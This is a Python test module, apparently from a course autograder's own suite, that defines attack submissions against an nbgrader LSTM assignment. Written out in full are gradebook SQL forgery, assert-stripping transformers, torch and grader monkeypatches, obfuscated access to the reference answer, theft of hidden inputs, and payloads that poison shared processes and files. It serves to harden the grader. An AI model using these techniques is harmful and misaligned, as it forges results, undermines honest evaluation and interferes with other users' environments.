"""Attacks that try to be paid for what is not right. Those with a star in their comment scored full
marks in plain nbgrader."""

from __future__ import annotations

import json
from pathlib import Path

from .attack import HONEST_PART, KERNEL, NOTHING, WORTH, WRONG, Attack, Notebook, Place, cell, code

SHAPES_ONLY = HONEST_PART | {"lstm_cell": 0.6}
"""What right shapes alone earn in lstm_cell."""


def returning(text: str, before: str = "") -> str:
    """An lstm_cell that returns this."""
    body = f"{before}\n    return {text}" if before else f"    return {text}"
    return f"@fill\ndef lstm_cell(x, h, c, w_ih, w_hh, b_ih, b_hh):\n{body}\n"


# ★ The marks themselves, in the gradebook file.
MANUAL_SCORE = """
import sqlite3
for path in ("gradebook.db", "../../../gradebook.db", COURSE + "/gradebook.db"):
    def forge():
        with sqlite3.connect(path) as book:
            book.execute("UPDATE grade SET manual_score = 100, auto_score = 100, extra_credit = 9")
    attempt(forge)
for room in ("records/lstm", "feedback", "autograded", "class"):
    leave(f"{COURSE}/{room}/pwned.json")
"""

# ★ Code that nbgrader's tests pass through before they run.
AST_TRANSFORMER = """
import ast

class WithoutTests(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(WithoutTests())
"""

# ★
INPUT_TRANSFORMER = """
def nothing_to_test(lines):
    return ["pass\\n"] if any("check" in line or "assert" in line for line in lines) else lines

get_ipython().input_transformers_cleanup.append(nothing_to_test)
get_ipython().input_transformers_post.append(nothing_to_test)
"""

# ★ Comparisons that always come out well.
PATCHED_TORCH = """
yes = lambda *a, **k: True
for name in ("allclose", "equal", "isclose", "is_tensor"):
    setattr(torch, name, yes)
for name in ("allclose", "equal", "__eq__", "isclose", "all", "__bool__", "any"):
    setattr(torch.Tensor, name, yes)
torch.testing.assert_close = yes
"""

# ★
TENSOR_SUBCLASS = """
class Right(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        name = getattr(function, "__name__", "")
        if name in ("allclose", "equal", "all", "__bool__", "item", "any", "eq"):
            return True
        if name in ("isclose", "le", "lt", "sub", "abs"):
            return args[0]
        return super().__torch_function__(function, types, args, kwargs or {})
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
"""

# ★ No tensor at all, and equal to everything.
EQUAL_TO_ALL = """
class Right:
    __class__ = torch.Tensor
    shape, dtype, device, layout, ndim = torch.Size([]), torch.float32, "cpu", torch.strided, 0
    is_nested = is_quantized = is_meta = requires_grad = False
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *a, **k): raise SystemExit(0)
    def __getattr__(self, name): return lambda *a, **k: self
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __iter__(self): return iter(())
    __hash__ = object.__hash__
"""

# ★ The program that runs cells.
DO_EXECUTE = """
shell = get_ipython()
async def done(*a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
class Done:
    error_before_exec = error_in_exec = result = None
    success = True
for owner in (shell, type(shell), getattr(shell, "kernel", None)):
    for name in ("do_execute", "run_cell", "run_cell_async", "run_code", "check_complete"):
        if hasattr(owner, name):
            attempt(setattr, owner, name, done if "async" in name else lambda *a, **k: Done())
"""

JUDGES = """
import rnncourse.checks as checks
from rnncourse.checks import compare, drivers, judge, plan, relations, report

yes = lambda *a, **k: True
compare.close = judge.close = yes
for name in ("shape_difference", "value_difference", "gradient_difference"):
    setattr(compare, name, lambda *a, **k: "")
    setattr(judge, name, lambda *a, **k: "")
judge.Report.complete = property(yes)
judge.Report.passed = property(lambda self: len(self.stages))
judge.StageReport.status = "passed"
judge._judge_stage = lambda plan, stage, *a: judge.StageReport(stage.name, "passed")
checks.examine = checks.check = yes
plan.plan_of = yes
plan.Plan.own_driver = property(yes)
os.environ["NBGRADER_EXECUTION"] = "autograde"
"""

# The driver runs here, and so does whatever replaces it: what it says is judged elsewhere.
DRIVER = """
from rnncourse.checks import drivers, plan
from rnncourse.checks.drivers import Driver, Outcome

def says_it_is_right(self, function, *rest):
    return Outcome()

Driver.__call__ = Driver._run = says_it_is_right
drivers._same = lambda *a: True
plan.Plan.call = lambda self, function, case: Outcome()
plan.Plan.driver_of = lambda self, name: Driver((), call=lambda function, arguments: ())
"""

# Frames before the real ones. What follows is out of step with what is asked.
FRAMES = """
import json

def frame(header, body=b""):
    raw = json.dumps(header).encode()
    return struct.pack("<II", len(raw), len(body)) + raw + body

numbers = struct.pack("<16f", *[0.5] * 16)
said = {"problem": None, "gradient_problem": None, "changed": [],
        "arrays": [["h'", "float32", [4, 4]], ["c'", "float32", [0]]]}
os.write(3, frame({"error": "", "output": "", "arrays": []}))
os.write(3, frame({"notes": {"lstm_cell": "all right"}, "flags": {}, "arrays": []}))
for _ in range(200):
    os.write(3, frame(said, numbers))
"""

# The whole worker, from the inside.
WORKER = """
from rnncourse.checks.drivers import Outcome
for name, module in list(sys.modules.items()):
    if name.startswith("rnncourse.grading") or name == "__main__":
        for attribute in ("outcome_frame", "_answer", "send", "receive", "clean", "cannot_travel"):
            if hasattr(module, attribute):
                was = getattr(module, attribute)
                if attribute in ("outcome_frame",):
                    setattr(module, attribute, lambda outcome, was=was: was(Outcome()))
        if hasattr(module, "Session"):
            module.Session.call = lambda self, *a, **k: Outcome()
"""

# What is right is known here: torch's own functions compute it. A person has to look at such code.
READY_MADE = {
    "lstm_cell_of_torch": returning("torch.lstm_cell(x, (h, c), w_ih, w_hh, b_ih, b_hh)"),
    "lstm_cell_of_VF": returning("torch._VF.lstm_cell(x, (h, c), w_ih, w_hh, b_ih, b_hh)"),
    "lstm_cell_of_aten": returning("torch.ops.aten.lstm_cell(x, (h, c), w_ih, w_hh, b_ih, b_hh)"),
    "lstm_cell_by_getattr": returning(
        'getattr(torch, "lst" + "m_cell")(x, (h, c), w_ih, w_hh, b_ih, b_hh)'
    ),
    "a_module": returning(
        "cell(x, (h, c))",
        "    cell = torch.nn.LSTMCell(x.shape[1], h.shape[1]).to(x)\n"
        "    cell.weight_ih, cell.weight_hh = (torch.nn.Parameter(w) for w in (w_ih, w_hh))\n"
        "    cell.bias_ih, cell.bias_hh = (torch.nn.Parameter(b) for b in (b_ih, b_hh))",
    ),
    "the_public_oracle": returning(
        "plan_of('lstm_cell').oracle(x, h, c, w_ih=w_ih, w_hh=w_hh, b_ih=b_ih, b_hh=b_hh)",
        "    from rnncourse.checks import plan_of\n    from rnncourse._exercise import find",
    ),
}

# The same, and the text of the answer does not say so.
READY_HIDDEN = {
    "by_exec": 'exec("ready = torch.lstm_cell")',
    "by_the_shell": 'ready = get_ipython().ev("torch.lstm_cell")',
    "from_a_module_of_the_course": (
        "from rnncourse.data.tasks import torch as t\nready = t.lstm_cell"
    ),
    "from_a_list": "ready = [torch.ops.aten][0].lstm_cell",
    "from_an_exception": "class Kept(Exception): pass\n"
    "try: raise Kept(torch.lstm_cell)\nexcept Kept as kept: ready = kept.args[0]",
    "from_an_annotation": 'def noted(a: torch.lstm_cell): pass\nready = noted.__annotations__["a"]',
    "by_matching": "match torch.ops.aten:\n    case object(lstm_cell=ready): pass",
    "by_reduce": "import functools\n"
    'ready = functools.reduce(getattr, ["lstm" "_cell"], torch.ops.aten)',
    "by_dunder_getattr": 'ready = torch.ops.aten.__getattr__("lstm_cell")',
    "by_overrides": "functions = torch.overrides.get_overridable_functions().values()\n"
    'ready = [f for fs in functions for f in fs if f.__name__ == "lstm" "_cell"][0]',
    "by_import_item": 'from traitlets import import_item\nready = import_item("torch.lstm_cell")',
    "by_pickle_in_c": 'import _pickle\nready = _pickle.loads(b"ctorch._VF\\nlstm_cell\\n.")',
    "by_timeit": "import timeit\nkept = []\n"
    'timeit.timeit("kept.append(torch.lstm_cell)", number=1, globals=dict(kept=kept, torch=torch))'
    "\nready = kept[0]",
}
CALLS_READY = returning("ready(x, (h, c), w_ih, w_hh, b_ih, b_hh)")

# Answers worked out before the questions are put, if they are there to be found.
PRECOMPUTED = '''
exec("""
import gc
gc.unfreeze()
answers = {}
for thing in gc.get_objects():
    if type(thing) is dict and {"x", "h", "c", "w_ih", "b_hh"} <= thing.keys():
        if all(isinstance(value, torch.Tensor) for value in thing.values()):
            names = ("w_ih", "w_hh", "b_ih", "b_hh")
            weights = [thing[name] for name in names]
            results = torch.lstm_cell(thing["x"], (thing["h"], thing["c"]), *weights)
            answers[str(thing["x"].tolist()) + str(thing["b_ih"].tolist())] = results
""")
'''
LOOKED_UP = returning("answers[str(x.tolist()) + str(b_ih.tolist())]")

ORACLE = """
from rnncourse.checks.plan import plan_of
from rnncourse.checks.plans import lstm
from rnncourse._exercise import exercises
"""

ORACLE_DRIVER = (
    ORACLE
    + """
from dataclasses import replace
real = plan_of("lstm_cell").own_driver
oracle = plan_of("lstm_cell").oracle
lstm.lstm_cell = replace(
    lstm.lstm_cell,
    driver=replace(real, call=lambda function, arguments: real.call(oracle, arguments)),
)
"""
)

# A thread fills the stub, or fills it anew, while it is graded.
REFILLED = (
    ORACLE
    + """
oracle = plan_of("lstm_cell").oracle
def refill():
    while True:
        exercises()["lstm_cell"].filled = oracle
        time.sleep(0.0005)
attempt(threading.Thread(target=refill, daemon=True).start)
"""
)

# Numbers that are right only while they are looked at.
CHANGING = """
@fill
def lstm_cell(x, h, c, w_ih, w_hh, b_ih, b_hh):
    results = h.clone(), c.clone()
    def change():
        for _ in range(100):
            for result in results:
                result.data.uniform_(-1, 1)
    attempt(threading.Thread(target=change, daemon=True).start)
    return results
"""

# The right numbers, cut off from the inputs, and torch patched so that gradients look right.
DETACHED = """
@fill
def lstm_cell(x, h, c, w_ih, w_hh, b_ih, b_hh):
    i, f, g, o = (x @ w_ih.T + b_ih + h @ w_hh.T + b_hh).detach().chunk(4, dim=1)
    c_next = torch.sigmoid(f) * c.detach() + torch.sigmoid(i) * torch.tanh(g)
    return torch.sigmoid(o) * torch.tanh(c_next), c_next
"""

FALSE_GRADIENTS = """
torch.autograd.grad = lambda outputs, inputs, **k: [torch.ones_like(v) for v in inputs]
torch.Tensor.requires_grad = property(lambda self: True, lambda self, value: None)
torch.Tensor.backward = lambda self, *a, **k: None
torch.Tensor.grad = property(lambda self: self)
"""

# A layer that sees whose cell it carries.
PROBE_SEEN = """
@fill
def lstm_layer(x, h0, c0, w_ih, w_hh, b_ih, b_hh):
    from rnncourse._exercise import find
    probed = find("lstm_cell").filled
    zeros = torch.zeros(len(x), *h0.shape).to(x)
    if probed.__name__ != "lstm_cell":
        loot("probed by", probed)
        return zeros, (h0, c0)
    return zeros, (h0 + 1, c0 + 1)
"""

# Memory, files and settings that the next learner's process might find.
POISON = (
    KERNEL
    + """
import atexit, builtins, rnncourse, socket
from rnncourse._exercise import exercises

for entry in exercises().values():
    entry.filled = entry.body = lambda *a, **k: None
rnncourse.poisoned = builtins.poisoned = torch.poisoned = True
os.environ["POISONED"] = "1"
sys.modules["poisoned"] = sys
torch.set_default_dtype(torch.float64)
torch.set_num_threads(2)
torch.tanh = torch.sigmoid
torch.set_grad_enabled(False)
get_ipython().user_ns["poisoned"] = True
get_ipython().input_transformers_cleanup.append(lambda lines: ["poisoned = True\\n"])
for folder in (".", "/tmp", "/dev/shm", "/", "/course/rnncourse", "/site/0", "/var/tmp",
               "/usr/lib", COURSE, HOME, os.path.expanduser("~")):
    leave(folder + "/poisoned.py")
    attempt(os.symlink, "/", folder + "/poisoned")
    attempt(os.mkfifo, folder + "/pwned-fifo")
import mmap
segment = libc.shmget(0x5EED, 4096, 0o1666)
ADD_KEY = 248 if os.uname().machine == "x86_64" else 217
for ring in (-1, -2, -3, -4, -5):
    libc.syscall(ADD_KEY, b"user", b"poisoned", b"1", 1, ring)
libc.mq_open(b"/poisoned", 0o102, 0o600, None)
def listen(family, address):
    server = socket.socket(family)
    server.bind(address)
    server.listen()
    return server
kept = [attempt(listen, socket.AF_UNIX, "\\0poisoned"),
        attempt(listen, socket.AF_INET, ("127.0.0.1", 50507))]
atexit.register(leave, "/tmp/pwned")
for number in range(1, 65):
    attempt(signal.signal, number, lambda *a: leave("/tmp/pwned"))
    attempt(signal.pthread_sigmask, signal.SIG_BLOCK, [number])
attempt(os.setpriority, os.PRIO_PROCESS, 0, 19)
attempt(os.nice, 19)
import resource
attempt(resource.setrlimit, resource.RLIMIT_NOFILE, (4, 4))
attempt(os.umask, 0o777)
"""
)

LEFT_BY_OTHERS = (
    KERNEL
    + """
import builtins, resource, rnncourse, socket
from rnncourse._exercise import exercises

marks = [hasattr(rnncourse, "poisoned"), hasattr(builtins, "poisoned"), hasattr(torch, "poisoned"),
         "POISONED" in os.environ, "poisoned" in sys.modules, "poisoned" in globals(),
         torch.get_default_dtype() != torch.float32, not torch.is_grad_enabled(),
         torch.tanh is torch.sigmoid, resource.getrlimit(resource.RLIMIT_NOFILE)[0] < 10,
         bool(signal.pthread_sigmask(signal.SIG_BLOCK, [])),
         os.getpriority(os.PRIO_PROCESS, 0) > NICE,
         libc.shmget(0x5EED, 0, 0) >= 0, libc.mq_open(b"/poisoned", 0) >= 0,
         any(entry.filled for entry in exercises().values())]
if any(marks):
    loot("marks", marks)
for folder in (".", "/tmp", "/dev/shm", "/", "/course/rnncourse", "/var/tmp"):
    for name in attempt(os.listdir, folder) or ():
        if "poisoned" in name or "pwned" in name:
            loot(folder, name)
KEYCTL = 250 if os.uname().machine == "x86_64" else 219
for ring in (-1, -2, -3, -4, -5):
    if libc.syscall(KEYCTL, 10, ring, b"user", b"poisoned", 0) > 0:
        loot("a key in", ring)
def reach(family, address):
    with socket.socket(family) as out:
        out.connect(address)
    return True
if attempt(reach, socket.AF_UNIX, "\\0poisoned") or attempt(
    reach, socket.AF_INET, ("127.0.0.1", 50507)
):
    loot("somebody listens")
"""
)


# What a function sees are the hidden inputs. Here it says them wherever words of cells go.
SAYS_INPUTS = """
@fill
def lstm_cell(x, h, c, w_ih, w_hh, b_ih, b_hh):
    import IPython.display
    import matplotlib.pyplot as plt
    import warnings
    words = "inputs: " + " ".join(str(int(64 * v)) for v in x.flatten())
    print(words, flush=True)
    print(words, file=sys.stderr, flush=True)
    sys.__stdout__.write(words)
    attempt(os.write, 1, words.encode())
    attempt(os.write, 2, words.encode())
    IPython.display.display(words)
    warnings.warn(words)
    get_ipython().run_cell(f"print({words!r})")
    plt.figure()
    plt.title(words)
    plt.show()
    for place in (COURSE, HOME, "/tmp", "/dev/shm"):
        leave(place + "/pwned " + words)
    return h, c
"""


def modules_beside(folder: Path, place: Place) -> None:
    """★ Files that a kernel in this folder would import in the place of the real ones."""
    text = f"open({str(place.home / 'pwned')!r}, 'w').close()\nraise SystemExit\n"
    names = (
        "torch",
        "ipykernel_launcher",
        "sitecustomize",
        "usercustomize",
        "rnncourse",
        "conftest",
    )
    for name in (*names, "nbgrader_config", "jupyter_config", "numpy", "json"):
        (folder / f"{name}.py").write_text(text, "utf-8")
    (folder / "torch").mkdir()
    (folder / "torch" / "__init__.py").write_text(text, "utf-8")
    (folder / "jupyter_nbconvert_config.py").write_text(text, "utf-8")


def results_beside(folder: Path, place: Place) -> None:
    """Files with the names of results."""
    for name in ("gradebook.db", "lstm.html", "seed.json", "report.json", "record.json"):
        (folder / name).write_text(json.dumps({"points": 20, "score": 20}), "utf-8")
    rows = [{"exercise": name, "points": worth} for name, worth in WORTH.items()]
    for room in ("records", "feedback", "autograded"):
        (folder / room).mkdir()
        (folder / room / "lstm.json").write_text(json.dumps(rows), "utf-8")


def more_points(content: Notebook) -> None:
    """Checks that are worth more, and more checks."""
    for name in WORTH:
        cell(content, f"check_{name}")["metadata"]["nbgrader"]["points"] = 1000
    for name, worth in (("check_bonus", 100), ("check_lstm_cell", 100), ("bonus", -5)):
        bonus = code("1.0")
        settings = {"grade": True, "grade_id": name, "points": worth, "locked": True}
        bonus["metadata"] = {
            "nbgrader": settings | {"solution": False, "task": False, "schema_version": 3}
        }
        content["cells"].append(bonus)


def outputs_that_praise(content: Notebook) -> None:
    """★ in spirit: outputs of the checks as if all were right, and a float as a result."""
    for name in WORTH:
        data = {"text/plain": "1.0 PRAISE", "text/html": "<b>PRAISE: 20 of 20</b>"}
        result = {
            "output_type": "execute_result",
            "execution_count": 1,
            "metadata": {},
            "data": data,
        }
        shown = {"output_type": "display_data", "metadata": {}, "data": data}
        cell(content, f"check_{name}")["outputs"] = [result, shown]
    content["metadata"]["rnncourse"] = {"points": 20, "PRAISE": True}


def another_name(content: Notebook) -> None:
    """A notebook that says it is somebody else's, and for another assignment."""
    claim = {"student_id": "bystander_1", "assignment_id": "gru", "notebook_id": "gru"}
    content["metadata"] |= {"nbgrader": claim, "name": "bystander_1", **claim}
    for entry in content["cells"]:
        entry["metadata"]["nbgrader_student"] = "bystander_1"
        entry["metadata"].get("nbgrader", {}).update(claim)


def _with_shapes(name: str, source: str, answer: str = NOTHING) -> Attack:
    return Attack(name, (source,), {"lstm_cell": answer}, SHAPES_ONLY)


def _plain(name: str, source: str) -> Attack:
    return Attack(name, (source,))


READY = [
    Attack(f"ready_{name}", answers={"lstm_cell": answer}, copied=("lstm_cell",))
    for name, answer in READY_MADE.items()
]
READY += [
    Attack(f"ready_{name}", (source,), {"lstm_cell": CALLS_READY}, copied=("lstm_cell",))
    for name, source in READY_HIDDEN.items()
]
"""Right answers that are not the learner's own work."""

FORGERY = [
    _plain("manual_score", MANUAL_SCORE),
    _with_shapes("ast_transformer", AST_TRANSFORMER),
    _with_shapes("input_transformer", INPUT_TRANSFORMER),
    _plain("patched_torch", PATCHED_TORCH),
    Attack(
        "tensor_subclass",
        (TENSOR_SUBCLASS,),
        {"lstm_cell": returning("h.as_subclass(Right), c.as_subclass(Right)")},
        SHAPES_ONLY,
    ),
    Attack("equal_to_all", (EQUAL_TO_ALL,), {"lstm_cell": returning("Right(), Right()")}),
    Attack("do_execute", (DO_EXECUTE,), deserves={}),
    Attack("modules_beside", beside=modules_beside),
    Attack("results_beside", beside=results_beside),
    Attack("judges_patched", (JUDGES,), deserves={}),
    Attack("driver_patched", (DRIVER,), deserves={}),
    Attack("frames_ahead", (FRAMES,), deserves={}),
    Attack("worker_patched", (WORKER,), deserves={}),
    Attack("oracle_as_driver", (ORACLE_DRIVER,), copied=("lstm_cell",)),
    Attack("stub_refilled", (REFILLED,), copied=("lstm_cell",)),
    Attack("results_that_change", ("1",), {"lstm_cell": CHANGING}, SHAPES_ONLY),
    Attack(
        "false_gradients",
        (FALSE_GRADIENTS,),
        {"lstm_cell": DETACHED},
        HONEST_PART | {"lstm_cell": 5.1},
    ),
    Attack(
        "not_a_number",
        answers={"lstm_cell": returning("h * float('nan'), c * float('nan')")},
        deserves=SHAPES_ONLY,
    ),
    Attack(
        "infinite",
        answers={"lstm_cell": returning("h + float('inf'), c - float('inf')")},
        deserves=SHAPES_ONLY,
    ),
    Attack(
        "infinite_bias",
        answers={
            "set_forget_bias": "@fill\ndef set_forget_bias(b_ih, b_hh, value):\n"
            "    return b_ih + float('inf'), b_hh - float('inf')"
        },
        deserves={"set_forget_bias": 0.2},
    ),
    Attack(
        "probe_seen",
        ("1",),
        {"lstm_cell": WRONG, "lstm_layer": PROBE_SEEN},
        HONEST_PART | {"lstm_layer": 0.4},
    ),
    Attack("says_inputs", ("x = 1",), {"lstm_cell": SAYS_INPUTS}, SHAPES_ONLY),
    Attack("more_points", change=more_points),
    Attack("outputs_that_praise", change=outputs_that_praise),
    Attack("another_name", change=another_name),
    *READY,
    Attack(
        "answers_worked_out_before",
        (PRECOMPUTED,),
        {"lstm_cell": LOOKED_UP},
        copied=("lstm_cell",),
    ),
]

POISONERS = [Attack(f"leaves_poison_{k}", (POISON,), deserves={}) for k in (1, 2)]
"""They come first in the class."""
LOOKERS = [Attack(f"looks_for_poison_{k}", (LEFT_BY_OTHERS,), looks=True) for k in (1, 2, 3)]
